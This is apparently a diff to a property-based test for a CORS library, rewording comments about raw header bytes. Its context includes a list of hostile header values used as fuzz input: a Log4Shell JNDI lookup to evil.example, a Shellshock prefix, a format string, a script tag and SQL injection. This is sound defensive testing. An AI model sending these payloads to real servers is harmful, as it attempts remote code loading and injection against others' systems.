@@ -7,7 +7,7 @@ import openeoCors from '../../lib/index.js'
 import { holds } from '../random.js'
 import { EDITOR, listen } from '../server.js'
 
-// Header values as bytes, as a client can send them that is no browser. Text stands for bytes of latin1 here.
+// Header values as bytes, which clients other than browsers can send. Strings stand for bytes in latin1.
 
 interface Values {
   readonly origin: string
@@ -88,7 +88,7 @@ const nasties = [
   `a://${'b:'.repeat(4000)}`, `$${'{jndi:ldap://evil.example}'}`, '() { :; }; echo', '%s%s%n', '<script>', "' OR 1=1"
 ]
 
-// All but those that end a header, and NUL.
+// All bytes except NUL and the bytes that end a header.
 const byte = fc.constantFrom(...Array.from({ length: 256 }, (_, code) => String.fromCharCode(code)))
   .filter((character) => !'\r\n\0'.includes(character))
 const bytes = fc.string({ unit: byte, maxLength: 40 })
